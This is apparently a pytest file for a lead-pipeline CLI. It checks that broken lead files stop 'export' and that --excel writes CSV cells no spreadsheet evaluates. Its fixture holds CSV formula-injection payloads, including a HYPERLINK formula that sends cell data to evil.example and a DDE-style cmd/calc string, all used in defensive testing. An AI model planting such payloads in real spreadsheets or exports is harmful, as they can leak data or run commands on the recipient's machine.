"""`pipeline export` through the real CLI: a lead file that cannot be read stops the export (or, with
--skip-broken, is left out by name), and --excel writes a CSV no spreadsheet runs as formulas (issue 17,
items 9 and 15). What is checked is the exit code, stderr, and the bytes written."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from pipeline_tui.core.changes.init import init_pipeline
from pipeline_tui.core.importing.cells import EXCEL_FIRST_HEADER, unmark_excel_cell
from pipeline_tui.core.model.pipeline import Pipeline
from tests.conftest import git

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "at-sum": "@SUM(1)",
    "plus-one": "+1",
    "minus-two": "-2",
    "apostrophe": "'t Hart",
}


def lead_file(pipe: Pipeline, lead_id: str, name: str, **extra: object) -> None:
    """A lead file written by hand (strings as JSON, which is YAML 1.2); commit() commits it."""
    fields = {"name": name, "source": "referral", "stage": "new", **extra}
    text = "".join(f"{k}: {json.dumps(v)}\n" for k, v in fields.items()) + "created: 2026-11-01\n"
    (pipe.leads_dir / f"{lead_id}.yaml").write_text(text, encoding="utf-8")


def commit(pipe: Pipeline) -> None:
    git(pipe.root, "add", "-A")
    git(pipe.root, "commit", "-qm", "leads by hand")


@pytest.fixture
def hostile(pipe: Pipeline) -> Pipeline:
    """Leads whose cells a spreadsheet would run, plus one harmless lead."""
    for lead_id, name in HOSTILE.items():
        lead_file(pipe, lead_id, name)
    lead_file(pipe, "phone", "Hans Berlin", phone="+49 30 1234", value=1200)
    lead_file(pipe, "tabbed", "Tab Person", notes="\tcmd|' /C calc'!A0", **{"=evil": "@x"})
    lead_file(pipe, "plain", "Jane Doe", company="Acme")
    commit(pipe)
    return pipe


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def by_id(rows: list[list[str]]) -> dict[str, dict[str, str]]:
    header = rows[0]
    return {r[0]: dict(zip(header, r, strict=True)) for r in rows[1:]}


# --- a lead file that cannot be read ----------------------------------------------------------------

def test_a_broken_file_stops_the_export_and_nothing_is_written(pipe, run, tmp_path):
    lead_file(pipe, "good", "Jane Doe")
    (pipe.leads_dir / "bad.yaml").write_text("name: Broken\nsource: referral\nstage: a: b\ncreated: 2026-11-01\n")
    commit(pipe)
    out = tmp_path / "out.csv"
    for fmt in ("csv", "json"):
        res = run("-C", str(pipe.root), "export", "--format", fmt, "-o", str(out))
        assert res.code == 2, res
        assert not out.exists() and res.out == ""
        assert len(res.err.strip().splitlines()) == 1, res.err
        assert "leads/bad.yaml (line 3: " in res.err and "pipeline check" in res.err and "--skip-broken" in res.err
        assert "good" not in res.err
    res = run("-C", str(pipe.root), "export")  # to stdout: not a byte of it
    assert res.code == 2 and res.out == "" and "leads/bad.yaml" in res.err
    check = run("-C", str(pipe.root), "check")  # the line named is the one check shows
    assert "leads/bad.yaml:3:" in check.out + check.err


def test_every_kind_of_unreadable_file_is_refused_and_more_than_three_are_counted(pipe, run, tmp_path):
    lead_file(pipe, "good", "Jane Doe")
    (pipe.leads_dir / "a-yaml.yaml").write_text("name: a: b\nsource: referral\n")
    (pipe.leads_dir / "b-huge.yaml").write_text("name: Big\n" + "# padding\n" * 120_000)
    lead_file(pipe, "c-merge", "Merged", owner="alice",
              merge_conflicts={"owner": {"ours": "alice", "theirs": "bob"}})
    (pipe.leads_dir / "d-list.yaml").write_text("- just\n- a list\n")
    commit(pipe)
    os.mkfifo(pipe.leads_dir / "e-fifo.yaml")
    out = tmp_path / "out.csv"
    res = run("-C", str(pipe.root), "export", "-o", str(out))
    assert res.code == 2 and not out.exists(), res
    line = res.err.strip()
    assert len(res.err.strip().splitlines()) == 1
    assert "5 lead file(s)" in line and line.endswith("nothing was written")
    assert "leads/a-yaml.yaml (line 1: " in line and "leads/b-huge.yaml (" in line
    assert "leads/c-merge.yaml (line 5: two versions of owner came in from a merge" in line
    assert "and 2 more" in line and "d-list" not in line and "e-fifo" not in line

    res = run("-C", str(pipe.root), "export", "--skip-broken", "-o", str(out))
    assert res.code == 0, res
    assert res.err.startswith(f"exported 1 of 6 leads to {out}; left out ")
    for name in ("a-yaml", "b-huge", "c-merge", "d-list", "e-fifo"):
        assert f"leads/{name}.yaml (" in res.err
    assert "leads/e-fifo.yaml (is a FIFO" in res.err
    assert list(by_id(rows_of(out.read_text(encoding="utf-8")))) == ["good"]


def test_skip_broken_exports_the_others_and_names_the_file_left_out(pipe, run):
    for i in range(7):
        lead_file(pipe, f"lead-{i}", f"Person {i}")
    (pipe.leads_dir / "x.yaml").write_text("name: X\nsource: referral\ncreated: 2026-11-01: x\nowner: bob\n")
    commit(pipe)
    res = run("-C", str(pipe.root), "export", "--skip-broken")
    assert res.code == 0, res
    assert res.err.startswith("exported 7 of 8 leads; left out leads/x.yaml (line 3: "), res.err
    assert len(res.err.strip().splitlines()) == 1
    assert list(by_id(rows_of(res.out))) == [f"lead-{i}" for i in range(7)]
    data = json.loads(run("-C", str(pipe.root), "export", "--skip-broken", "--format", "json").out)
    assert [d["id"] for d in data] == [f"lead-{i}" for i in range(7)]


def test_a_lead_with_validation_problems_is_exported_as_it_is(pipe, run):
    (pipe.leads_dir / "odd.yaml").write_text("name: Odd\nsource: carrier-pigeon\nstage: nowhere\nvalue: -5\n")
    commit(pipe)
    assert run("-C", str(pipe.root), "check").code == 1
    res = run("-C", str(pipe.root), "export")
    assert res.code == 0 and res.err == "", res
    row = by_id(rows_of(res.out))["odd"]
    assert (row["source"], row["stage"], row["value"], row["created"]) == ("carrier-pigeon", "nowhere", "-5", "")


# --- --excel ----------------------------------------------------------------------------------------

def test_excel_csv_has_a_bom_crlf_and_no_cell_a_spreadsheet_would_run(hostile, run, tmp_path):
    out = tmp_path / "leads.csv"
    res = run("-C", str(hostile.root), "export", "--excel", "-o", str(out))
    assert res.code == 0, res
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf'id,name,company,")
    rows = rows_of(raw.decode("utf-8")[1:])
    # every row ends CRLF (line breaks inside a quoted cell, as the $yaml one, stay LF, as Excel writes them)
    assert raw.endswith(b"\r\n") and raw.count(b"\r\n") == len(rows) and b"\r" not in raw.replace(b"\r\n", b"")
    assert rows[0][0] == "'id" and "'=evil" in rows[0]
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    leads = by_id([["id", *rows[0][1:]], *rows[1:]])
    assert leads["hyperlink"]["name"] == "'" + HOSTILE["hyperlink"]
    assert leads["at-sum"]["name"] == "'@SUM(1)"
    # a text YAML would read as a number is written "+1" (so import reads text), which no spreadsheet runs
    assert leads["plus-one"]["name"] == '"+1"' and leads["minus-two"]["name"] == '"-2"'
    assert leads["apostrophe"]["name"] == "''t Hart"  # one more ', so taking one off gives it back
    assert leads["phone"]["phone"] == "'+49 30 1234"
    assert leads["phone"]["value"] == "1200" and leads["phone"]["created"] == "2026-11-01"  # harmless: untouched
    assert leads["tabbed"]["notes"] == "'\tcmd|' /C calc'!A0" and leads["tabbed"]["'=evil"] == "'@x"
    assert leads["plain"]["name"] == "Jane Doe" and leads["plain"]["company"] == "Acme"
    stdout = subprocess.run([sys.executable, "-m", "pipeline_tui", "-C", str(hostile.root), "export", "--excel"],
                            capture_output=True, env={**os.environ, "PIPELINE_TODAY": "2026-11-23"}, timeout=120)
    assert stdout.returncode == 0 and stdout.stdout == raw  # the same bytes to stdout


def test_taking_one_mark_off_each_excel_cell_gives_the_plain_export(hostile, run):
    # (run() reads stdout as text with universal newlines: CRLF arrives as LF, which csv reads the same)
    plain = run("-C", str(hostile.root), "export").out
    excel = run("-C", str(hostile.root), "export", "--excel").out
    assert excel.startswith("\ufeff" + EXCEL_FIRST_HEADER)
    unmarked = [[unmark_excel_cell(c) for c in row] for row in rows_of(excel[1:])]
    assert unmarked == rows_of(plain)


def test_plain_export_is_unchanged_and_still_round_trips(hostile, run, tmp_path):
    out = tmp_path / "leads.csv"
    assert run("-C", str(hostile.root), "export", "-o", str(out)).code == 0
    raw = out.read_bytes()
    assert raw.startswith(b"id,name,company,") and not raw.startswith(b"\xef\xbb\xbf")
    assert b"'" + HOSTILE["plus-one"].encode() not in raw
    leads = by_id(rows_of(raw.decode("utf-8")))
    from pipeline_tui.core.importing.cells import typed_cell

    assert {k: typed_cell(leads[k]["name"]) for k in HOSTILE} == HOSTILE  # as import reads the cells
    assert leads["phone"]["phone"] == "+49 30 1234" and leads["tabbed"]["=evil"] == "@x"
    _same_leads_after_import(hostile, out, run, tmp_path)


def _same_leads_after_import(source: Pipeline, exported: Path, run, tmp_path: Path) -> None:  # noqa: ANN001
    fresh = init_pipeline(tmp_path / "fresh")
    res = run("-C", str(fresh.root), "import", str(exported))
    assert res.code == 0, res

    def comparable(p: Pipeline) -> dict:  # every lead, as it was: our own export is read as written
        return {x.id: x.data for x in Pipeline(p.root).leads()}

    assert comparable(fresh) == comparable(source)


def test_an_excel_export_imports_as_the_same_leads(hostile, run, tmp_path):
    out = tmp_path / "leads.csv"
    assert run("-C", str(hostile.root), "export", "--excel", "-o", str(out)).code == 0
    _same_leads_after_import(hostile, out, run, tmp_path)


def test_excel_with_json_is_a_usage_error(hostile, run, tmp_path):
    out = tmp_path / "leads.json"
    res = run("-C", str(hostile.root), "export", "--excel", "--format", "json", "-o", str(out))
    assert res.code == 2 and res.out == "" and not out.exists(), res
    assert len(res.err.strip().splitlines()) == 1 and "--excel" in res.err and "json" in res.err


def test_help_explains_excel_and_skip_broken(run):
    res = run("export", "--help")
    assert res.code == 0
    text = " ".join(res.out.split())
    assert "--excel" in text and "BOM" in text and "CRLF" in text and "OWASP" in text
    assert "--skip-broken" in text and "exit 2" in text
